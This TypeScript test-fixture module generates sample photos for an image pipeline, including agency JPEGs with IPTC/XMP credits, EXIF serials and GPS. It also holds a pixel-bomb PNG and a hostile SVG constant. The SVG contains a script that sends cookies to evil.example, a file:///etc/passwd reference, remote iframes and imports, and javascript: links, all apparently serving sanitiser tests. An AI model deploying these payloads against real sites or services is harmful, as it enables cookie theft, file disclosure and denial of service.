// Photos as agencies, phones and archives send them, made by the tests (nothing large is committed): an
// agency JPEG with IPTC and XMP credit fields, EXIF orientation, GPS and camera serials; CMYK; WebP; AVIF; a
// pixel bomb; and a hostile SVG.
import sharp, { type Sharp } from 'sharp';

export interface AgencyFields {
  caption?: string;
  credit?: string;
  creator?: string;
  copyright?: string;
  source?: string;
}

export const gps = { latitude: 55.75, longitude: 37.6166 } as const;

/** A photo-like picture (gradients and grain, which compress as photos do), width × height as stored. */
export async function photoPixels(width: number, height: number): Promise<Sharp> {
  // Grain at a quarter of the size, enlarged: cheap to make, and photo-like to a JPEG encoder.
  const grainWidth = Math.ceil(width / 4);
  const grainHeight = Math.ceil(height / 4);
  const grain = Buffer.alloc(grainWidth * grainHeight * 3);
  let seed = 12345;
  for (let i = 0; i < grain.length; i++) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    grain[i] = 60 + ((i / 3) % grainWidth) * (120 / grainWidth) + (seed % 50);
  }
  const grainImage = await sharp(grain, { raw: { width: grainWidth, height: grainHeight, channels: 3 } })
    .resize(width, height, { kernel: 'cubic' })
    .png({ compressionLevel: 1 })
    .toBuffer();
  return sharp(grainImage);
}

/** An agency JPEG: IPTC (IIM) and XMP credit fields, EXIF orientation, camera and lens serials, software, GPS. */
export async function agencyJpeg(
  width: number,
  height: number,
  fields: AgencyFields,
  { orientation = 1, withGps = true } = {},
): Promise<Buffer> {
  const jpeg = await (await photoPixels(width, height))
    .withExif({
      IFD0: {
        Make: 'Canon',
        Model: 'EOS R5',
        Software: 'Adobe Photoshop 25.0 (Macintosh)',
        ...(fields.creator && { Artist: fields.creator }),
      },
      IFD2: { BodySerialNumber: '032021001234', LensSerialNumber: '7700004567' },
      ...(withGps && {
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '55/1 45/1 0/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '37/1 36/1 59/1',
        },
      }),
    })
    .withMetadata({ orientation })
    .withXmp(xmpOf(fields))
    .jpeg({ quality: 92 })
    .toBuffer();
  return withIptc(jpeg, fields);
}

/** An agency photo in another container (WebP, AVIF, PNG): the same XMP credit, camera EXIF and GPS, no IPTC IIM. */
export async function agencyPhotoAs(
  format: 'webp' | 'avif' | 'png',
  width: number,
  height: number,
  fields: AgencyFields,
): Promise<Buffer> {
  const image = (await photoPixels(width, height))
    .withExif({
      IFD0: { Make: 'Canon', Model: 'EOS R5', Software: 'Adobe Photoshop 25.0 (Macintosh)' },
      IFD2: { BodySerialNumber: '032021001234', LensSerialNumber: '7700004567' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '55/1 45/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '37/1 36/1 59/1' },
    })
    .withXmp(xmpOf(fields));
  if (format === 'webp') return image.webp({ quality: 80 }).toBuffer();
  if (format === 'avif') return image.avif({ quality: 60, effort: 2 }).toBuffer();
  return image.png({ compressionLevel: 1 }).toBuffer();
}

function xmpOf(fields: AgencyFields): string {
  const alt = (value: string) => `<rdf:Alt><rdf:li xml:lang="x-default">${value}</rdf:li></rdf:Alt>`;
  return `<?xpacket begin="\uFEFF" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/">${[
    fields.caption && `<dc:description>${alt(fields.caption)}</dc:description>`,
    fields.creator && `<dc:creator><rdf:Seq><rdf:li>${fields.creator}</rdf:li></rdf:Seq></dc:creator>`,
    fields.copyright && `<dc:rights>${alt(fields.copyright)}</dc:rights>`,
    fields.credit && `<photoshop:Credit>${fields.credit}</photoshop:Credit>`,
    fields.source && `<photoshop:Source>${fields.source}</photoshop:Source>`,
    "<xmpMM:History><rdf:Seq><rdf:li>saved by Photoshop on the photographer's laptop</rdf:li></rdf:Seq></xmpMM:History>",
  ]
    .filter(Boolean)
    .join('')}</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;
}

/** Puts an APP13 Photoshop IRB with IPTC IIM records (caption 2:120, credit 2:110, by-line 2:80, copyright 2:116, source 2:115) after SOI. */
export function withIptc(jpeg: Buffer, fields: AgencyFields): Buffer {
  const records: [number, string | undefined][] = [
    [120, fields.caption],
    [110, fields.credit],
    [80, fields.creator],
    [116, fields.copyright],
    [115, fields.source],
  ];
  const iim = Buffer.concat(
    records
      .filter((record): record is [number, string] => record[1] !== undefined)
      .map(([tag, value]) => {
        const bytes = Buffer.from(value, 'utf8');
        const head = Buffer.from([0x1c, 0x02, tag, 0, 0]);
        head.writeUInt16BE(bytes.length, 3);
        return Buffer.concat([head, bytes]);
      }),
  );
  const padded = iim.length % 2 === 0 ? iim : Buffer.concat([iim, Buffer.from([0])]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(iim.length, 0);
  const body = Buffer.concat([
    Buffer.from('Photoshop 3.0\0', 'latin1'),
    Buffer.from('8BIM', 'latin1'),
    Buffer.from([0x04, 0x04, 0, 0]),
    size,
    padded,
  ]);
  const marker = Buffer.alloc(4);
  marker.writeUInt16BE(0xffed, 0);
  marker.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), marker, body, jpeg.subarray(2)]);
}

/** A CMYK JPEG, as print-oriented agencies send them. */
export async function cmykJpeg(width: number, height: number): Promise<Buffer> {
  return (await photoPixels(width, height)).toColourspace('cmyk').jpeg({ quality: 90 }).toBuffer();
}

export async function webpPhoto(width: number, height: number): Promise<Buffer> {
  return (await photoPixels(width, height)).webp({ quality: 80 }).toBuffer();
}

export async function avifPhoto(width: number, height: number): Promise<Buffer> {
  return (await photoPixels(width, height)).avif({ quality: 60, effort: 2 }).toBuffer();
}

/** A valid PNG whose header says 40000 × 40000 (the pixels are never decoded: the test stops at the header). */
export async function pixelBomb(): Promise<Buffer> {
  const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#fff' } })
    .png()
    .toBuffer();
  const bomb = Buffer.from(png);
  bomb.writeUInt32BE(40000, 16);
  bomb.writeUInt32BE(40000, 20);
  // The IHDR CRC covers type and data: recomputed so the file is a well-formed PNG.
  const { crc32 } = await import('node:zlib');
  bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)) >>> 0, 29);
  return bomb;
}

/** Everything an attacker would put in an SVG: script, handlers, remote and file: images, a foreignObject iframe. */
export const hostileSvg = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="200" viewBox="0 0 400 200" onload="alert('onload')">
  <script type="text/javascript">document.location = 'https://evil.example/steal?c=' + document.cookie;</script>
  <rect width="400" height="200" fill="#dde" onclick="alert('click')"/>
  <circle cx="100" cy="100" r="60" fill="#336"/>
  <image href="https://evil.example/pixel.png" x="0" y="0" width="10" height="10"/>
  <image xlink:href="file:///etc/passwd" x="0" y="0" width="10" height="10"/>
  <foreignObject x="0" y="0" width="400" height="200"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/frame"></iframe></foreignObject>
  <a xlink:href="javascript:alert('link')"><rect x="300" y="20" width="40" height="40" fill="#c00"/></a>
  <use href="https://evil.example/sprite.svg#icon"/>
  <style>@import url("https://evil.example/style.css");</style>
  <set attributeName="onmouseover" to="alert('set')"/>
  <rect x="200" y="60" width="40" height="120" fill="#363" class="bar"/>
</svg>
`;
